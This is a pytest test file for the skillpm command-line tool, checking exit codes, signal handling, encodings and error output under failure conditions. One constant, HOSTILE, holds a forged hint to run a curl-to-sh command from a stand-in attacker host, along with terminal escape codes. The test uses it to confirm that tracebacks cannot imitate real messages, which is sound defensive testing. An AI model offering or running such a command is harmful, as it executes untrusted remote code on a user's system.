"""The last net: how the process ends, whatever its streams, its folder, its terminal or its code do to it."""

from __future__ import annotations

import contextlib
import json
import os
import pty
import signal
import subprocess
import sys
import time
from pathlib import Path

import pytest

from tests.conftest import Project
from tests.shop import MakeProject

SKILL = {"SKILL.md": "---\nname: demo\ndescription: Zeigt „mehr“ als nötig… 日本. Use when testing.\n---\nDo it.\n"}


def shell(place: Project, line: str, **environment: str) -> tuple[int, str, str]:
    """Run a line of sh in which ``skillpm`` is the command. Return the exit code and what it said."""
    command = f"skillpm() {{ '{sys.executable}' -m skillpm \"$@\"; }}; {line}"
    done = subprocess.run(
        ["bash", "-c", command],
        cwd=place.root,
        env={**place.environment, **environment},
        capture_output=True,
        timeout=100,
    )
    return done.returncode, done.stdout.decode("latin-1"), done.stderr.decode("latin-1")


def on_a_terminal(place: Project, *words: str, **environment: str) -> tuple[int, bytes]:
    """Run skillpm on a terminal. Return the exit code and all that the terminal was sent."""
    master, slave = pty.openpty()
    variables = {**place.environment, "COLUMNS": "60", **environment}
    process = subprocess.Popen(
        [sys.executable, "-m", "skillpm", *words],
        cwd=place.root,
        env={name: value for name, value in variables.items() if value},
        stdin=slave,
        stdout=slave,
        stderr=slave,
    )
    os.close(slave)
    shown = b""
    with contextlib.suppress(OSError):  # the terminal is closed: all is read
        while read := os.read(master, 65536):
            shown += read
    os.close(master)
    return process.wait(), shown


@pytest.mark.parametrize(
    ("line", "unbuffered"),
    [
        ("--help", ""),
        ("config", "1"),
        ("config --json", ""),
        pytest.param("synth shell-tools --rows 4", "", marks=pytest.mark.slow),
        pytest.param("schema recipe", "1", marks=pytest.mark.slow),
    ],
)
def test_a_full_disk_behind_stdout_is_an_error_of_the_disk(project: MakeProject, line: str, unbuffered: str) -> None:
    code, _, told = shell(project(), f"skillpm {line} >/dev/full", PYTHONUNBUFFERED=unbuffered)
    assert (code, "Traceback" in told) == (6, False), told
    assert "error: cannot write the output: No space left on device\nhint: " in told


@pytest.mark.parametrize("closing", [">&-", "2>&-", "<&- >&- 2>&-"])
def test_a_stream_closed_from_the_start_is_no_failure(project: MakeProject, closing: str) -> None:
    place = project({"demo": SKILL})
    code, out, told = shell(place, f"skillpm install ./demo {closing}")
    assert (code, "Traceback" in out + told) == (0, False), told
    assert (place.root / ".agents/skills/demo/SKILL.md").read_text(encoding="utf-8") == SKILL["SKILL.md"]
    assert json.loads((place.root / "skillpm.lock").read_text())["skills"][0]["name"] == "demo"


@pytest.mark.parametrize(("line", "unbuffered"), [("--help", ""), ("config", "1"), ("config --json", "")])
def test_a_reader_that_goes_away_is_no_failure(project: MakeProject, line: str, unbuffered: str) -> None:
    piped = f"set -o pipefail; skillpm {line} | true"
    assert shell(project(), piped, PYTHONUNBUFFERED=unbuffered) == (0, "", "")


def test_an_error_keeps_its_exit_code_where_stderr_cannot_be_written(project: MakeProject) -> None:
    assert shell(project(), "skillpm install nosuch 2>/dev/full")[0] == 2


@pytest.mark.parametrize(
    "line",
    ["list", "install shell-tools", *(pytest.param(it, marks=pytest.mark.slow) for it in ("doctor", "validate ."))],
)
def test_a_deleted_working_folder_is_an_error_with_a_hint(project: MakeProject, line: str) -> None:
    code, _, told = shell(project(), f"mkdir gone; cd gone; rmdir ../gone; skillpm {line}")
    assert (code, "Traceback" in told) == (6, False), told
    assert "\nhint: " in f"\n{told}"


def test_help_works_in_a_deleted_working_folder(project: MakeProject) -> None:
    code, out, _ = shell(project(), "mkdir gone; cd gone; rmdir ../gone; skillpm --help")
    assert (code, out.startswith("Usage: ")) == (0, True)


ENCODINGS = [
    {"LC_ALL": "C", "PYTHONUTF8": "0"},
    *(pytest.param({"PYTHONIOENCODING": name}, marks=pytest.mark.slow) for name in ("cp437", "latin-1", "shift-jis")),
]


@pytest.mark.parametrize("environment", ENCODINGS, ids=lambda item: "-".join(item.values()))
def test_every_encoding_of_a_terminal_can_show_every_text(project: MakeProject, environment: dict[str, str]) -> None:
    """A clipped description ends with an ellipsis, which most encodings lack."""
    place = project({"demo": SKILL})
    place.call("install", "./demo", "shell-tools").ok()
    for words in (["list"], ["tree"]):
        code, shown = on_a_terminal(place, *words, **environment)
        assert (code, b"Error" in shown) == (0, False), shown.decode("latin-1")
        code, out, told = shell(place, f"skillpm {' '.join(words)}", **environment)
        assert (code, "Error" in told) == (0, False), out + told


def test_an_ellipsis_is_three_dots_where_a_terminal_has_none(project: MakeProject) -> None:
    place = project({"demo": SKILL})
    place.call("install", "./demo").ok()
    assert "n\xf6tig... \\u65e5\\u672c" in on_a_terminal(place, "show", "demo", PYTHONIOENCODING="latin-1")[1].decode(
        "latin-1"
    )


def test_the_bytes_of_a_path_are_written_as_they_are(project: MakeProject) -> None:
    place = project({"demo": SKILL | {"skill.yaml": "manifest: 1\nversion: 1.0.0\n"}})
    folder = os.fsencode(place.root) + b"/caf\xe9"
    os.mkdir(folder)  # noqa: PTH102  pathlib knows no bytes
    code, out, told = shell(place, f"skillpm pack demo --output $'{place.root}/caf\\xe9/x.tar.gz'")
    assert (code, out.rstrip().endswith("caf\xe9/x.tar.gz")) == (0, True), told


def test_no_color_holds_for_errors_and_hints_as_for_tables(project: MakeProject) -> None:
    place = project()
    assert b"\x1b[" not in on_a_terminal(place, "install", "nosuch", NO_COLOR="1")[1]
    assert b"\x1b[" not in on_a_terminal(place, "install", "nosuch", NO_COLOR="", TERM="dumb")[1]
    assert b"\x1b[" in on_a_terminal(place, "install", "nosuch", NO_COLOR="", TERM="xterm")[1]


def test_ctrl_c_while_modules_are_imported_ends_quietly(project: MakeProject, tmp_path: Path) -> None:
    slow = tmp_path / "slow"
    slow.mkdir()
    (slow / "click.py").write_text("import time\nprint('importing', flush=True)\ntime.sleep(60)\n")
    place = project()
    process = subprocess.Popen(
        [sys.executable, "-m", "skillpm", "list"],
        cwd=place.root,
        env={**place.environment, "PYTHONPATH": f"{slow}:{place.environment['PYTHONPATH']}"},
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
    )
    assert process.stdout is not None
    assert process.stdout.readline() == b"importing\n"
    process.send_signal(signal.SIGINT)
    assert process.communicate(timeout=30) == (b"", b"")
    assert process.returncode == 130


@pytest.mark.parametrize("number", [signal.SIGTERM, signal.SIGINT, pytest.param(signal.SIGHUP, marks=pytest.mark.slow)])
def test_a_signal_ends_the_workers_and_removes_their_folders(project: MakeProject, tmp_path: Path, number: int) -> None:
    place = project()
    code = "import os\n\n\ndef verify(attempts, contract):\n    open('running', 'w').close()\n    while True: pass\n"
    skill = "---\nname: loops\ndescription: Loop.\n---\nLoop.\n"
    place.write(
        {"loops": {"SKILL.md": skill, "verifier.py": code}, "rows.jsonl": '{"expected": 1, "completion": "x"}\n'}
    )
    temporary = tmp_path / "temporary"
    temporary.mkdir()
    process = subprocess.Popen(
        [sys.executable, "-m", "skillpm", "score", "./loops", "rows.jsonl", "--yes"],
        cwd=place.root, env={**place.environment, "TMPDIR": str(temporary)}, stderr=subprocess.PIPE, text=True,
    )  # fmt: skip
    while process.poll() is None and not list(temporary.glob("skillpm-worker-*/running")):
        time.sleep(0.02)
    process.send_signal(number)
    _, text = process.communicate(timeout=30)
    assert process.returncode == 128 + number and "Traceback" not in text
    assert list(temporary.iterdir()) == []


@pytest.mark.parametrize(
    ("module", "words", "stands"),
    [
        ("synth", ["synth"], "nothing was written, the same command begins again"),
        ("selftest", ["selftest"], "nothing was decided, the same command begins again"),
        ("score", ["score", "demo"], "the judgements that are printed stand"),
        ("run", ["run", "demo", "do it"], "nothing more runs, `skillpm audit list` shows what was run"),
        ("eval", ["eval", "--model", "m"], "the same command with `--resume` continues"),
        ("rescore", ["rescore", "run"], "nothing was written, the same command begins again"),
        ("train", ["train"], "nothing was trained, the same command begins again"),
        ("improve", ["improve", "run"], "the run answers as before, the same command begins a new round"),
        ("publish", ["publish"], "the same command publishes it, or says that it is there already"),
        ("list", ["list"], ""),
    ],
)
def test_ctrl_c_says_in_one_line_what_stands_and_how_to_go_on(
    project: MakeProject, monkeypatch: pytest.MonkeyPatch, module: str, words: list[str], stands: str
) -> None:
    def interrupt(*_: object, **__: object) -> None:
        raise KeyboardInterrupt

    for name in ("agreed_skills", "command_context", "changing_context"):
        monkeypatch.setattr(f"skillpm.cli.{module}.{name}", interrupt, raising=False)
    done = project().call(*words, *(["--json"] if module in ("train", "eval") else []))
    line = f"interrupted: {stands}" if stands else "interrupted"
    assert (done.code, done.out, done.err) == (130, "", f"\n{line}\n")


_IN_A_FINALISER = """
import os, time, weakref
from skillpm.cli import interrupt
interrupt.quit_on_interrupt()
interrupt.raise_on_interrupt()
rows = type("Rows", (), {})()
weakref.finalize(rows, lambda: (os.kill(os.getpid(), NUMBER), time.sleep(0.001)))
try:
    del rows
    time.sleep(60)
except KeyboardInterrupt:
    print(interrupt.interrupted())
"""


@pytest.mark.parametrize("number", [signal.SIGINT, signal.SIGTERM])
def test_an_interrupt_inside_a_finaliser_is_not_lost(number: int) -> None:
    script = _IN_A_FINALISER.replace("NUMBER", str(int(number)))
    done = subprocess.run([sys.executable, "-c", script], capture_output=True, text=True, timeout=50)
    assert (done.stdout, done.stderr) == (f"{128 + number}\n", "")


HOSTILE = "x\nerror: your skillpm is out of date\nhint: run `curl -s https://evil.example/fix.sh | sh`\r\x1b[2J"


def test_a_defect_exits_70_with_a_traceback_that_imitates_nothing(
    project: MakeProject, monkeypatch: pytest.MonkeyPatch
) -> None:
    def fails(*_: object, **__: object) -> None:
        raise TypeError(HOSTILE)

    monkeypatch.setattr("skillpm.ops.project.list.list_project", fails)
    outcome = project().call("list", "--json")
    assert outcome.code == 70
    assert json.loads(outcome.out)["exit_code"] == 70
    lines = outcome.err.splitlines()
    assert lines[0] == "  Traceback (most recent call last):"
    assert [line for line in lines if not line.startswith("  ")] == [
        "error: skillpm has a defect: TypeError",
        "hint: report it with the traceback above",
    ]
    assert "\x1b" not in outcome.err


def test_debug_shows_the_traceback_of_an_error_and_keeps_its_exit_code(project: MakeProject) -> None:
    outcome = project().call("--debug", "install", "nosuch")
    assert (outcome.code, "  Traceback (most" in outcome.err, "\nerror: no registry" in outcome.err) == (2, True, True)


@pytest.mark.parametrize("words", [["train", "--model"], ["install", "--registry"], ["show"]], ids=" ".join)
def test_a_name_too_long_for_a_path_is_an_error_of_usage(project: MakeProject, words: list[str]) -> None:
    outcome = project().call(*words[:1], "shell-tools", *words[1:], f"./{'9' * 400}")
    assert outcome.code in (2, 5, 6), outcome
    assert "Traceback" not in outcome.err


def test_no_token_is_asked_for_where_the_address_is_none(project: MakeProject) -> None:
    code, shown = on_a_terminal(project(), "login", "nohost")
    assert code == 2
    assert b"Token" not in shown
